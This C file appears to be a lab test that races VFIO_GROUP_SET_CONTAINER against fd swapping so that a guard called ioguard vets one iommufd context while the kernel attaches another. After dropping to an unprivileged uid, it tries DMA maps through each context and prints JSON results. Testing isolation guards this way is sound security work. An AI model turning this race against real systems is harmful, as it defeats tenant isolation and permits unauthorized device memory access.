// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * set_container_race GROUP SECONDS: where iommufd serves /dev/vfio/vfio, races
 * VFIO_GROUP_SET_CONTAINER against a thread that swaps the fd its argument names between
 * two iommufd contexts, so that ioguard judges one context and the kernel attaches the
 * group to the other. A child races (ioguard kills it when it notices); the parent holds
 * the same fds, so the group stays attached after the kill. The parent then drops to
 * uid 65534, a process of no tenant, and maps one page through each context.
 *
 * Prints one JSON object: whether the child was killed, whether the group is still
 * attached, and the errno of each map (0: the map went through).
 */
#include <pthread.h>
#include <signal.h>
#include <sys/wait.h>
#include <time.h>

#include "lab_attack.h"

struct race {
	int group, target, c1, c2;
	volatile bool stop;
};

static void *swapper(void *arg)
{
	struct race *r = arg;

	while (!r->stop) {
		dup2(r->c2, r->target);
		dup2(r->c1, r->target);
	}
	return NULL;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* The child: SET_CONTAINER/UNSET_CONTAINER while the fd under the argument changes. */
static void race(struct race *r, double seconds)
{
	double end = now() + seconds;
	pthread_t t;

	if (pthread_create(&t, NULL, swapper, r))
		_exit(2);
	while (now() < end) {
		if (!ioctl(r->group, VFIO_GROUP_SET_CONTAINER, &r->target))
			ioctl(r->group, VFIO_GROUP_UNSET_CONTAINER);
	}
	r->stop = true;
	pthread_join(t, NULL);
	_exit(0);
}

/* One page at IOVA 1 MiB through @container: 0, or the errno of the failing step. */
static int map_one(int container, void *page)
{
	struct vfio_iommu_type1_dma_map map = {
		.argsz = sizeof(map),
		.flags = VFIO_DMA_MAP_FLAG_READ | VFIO_DMA_MAP_FLAG_WRITE,
		.vaddr = (uintptr_t)page,
		.iova = 1UL << 20,
		.size = LAB_PAGE,
	};

	/* Already set (EBUSY) on the context the group joined first: not a failure. */
	if (ioctl(container, VFIO_SET_IOMMU, VFIO_TYPE1v2_IOMMU) && errno != EBUSY)
		return errno;
	return ioctl(container, VFIO_IOMMU_MAP_DMA, &map) ? errno : 0;
}

int main(int argc, char **argv)
{
	struct vfio_group_status status = { .argsz = sizeof(status) };
	struct race r = {};
	int wstatus, map1, map2;
	bool killed;
	void *page;
	pid_t pid;

	if (argc != 3) {
		fprintf(stderr, "usage: %s /dev/vfio/GROUP SECONDS\n", argv[0]);
		return 2;
	}
	r.group = open(argv[1], O_RDWR);
	r.c1 = open("/dev/vfio/vfio", O_RDWR);
	r.c2 = open("/dev/vfio/vfio", O_RDWR);
	r.target = dup(r.c1);
	if (r.group < 0 || r.c1 < 0 || r.c2 < 0 || r.target < 0) {
		printf("{\"failed_step\":\"open\",\"errno\":%d}\n", errno);
		return 1;
	}
	pid = fork();
	if (pid == 0)
		race(&r, atof(argv[2]));
	if (pid < 0 || waitpid(pid, &wstatus, 0) != pid) {
		printf("{\"failed_step\":\"fork\",\"errno\":%d}\n", errno);
		return 1;
	}
	killed = WIFSIGNALED(wstatus) && WTERMSIG(wstatus) == SIGKILL;
	ioctl(r.group, VFIO_GROUP_GET_STATUS, &status);
	page = mmap(NULL, LAB_PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED || setgroups(0, NULL) || setresgid(65534, 65534, 65534) ||
	    setresuid(65534, 65534, 65534)) {
		printf("{\"failed_step\":\"drop\",\"errno\":%d}\n", errno);
		return 1;
	}
	memset(page, 0, LAB_PAGE);
	map1 = map_one(r.c1, page);
	map2 = map_one(r.c2, page);
	printf("{\"failed_step\":null,\"killed\":%s,\"container_set\":%s,\"map_c1\":%d,"
	       "\"map_c2\":%d}\n", killed ? "true" : "false",
	       status.flags & VFIO_GROUP_FLAGS_CONTAINER_SET ? "true" : "false", map1, map2);
	return 0;
}
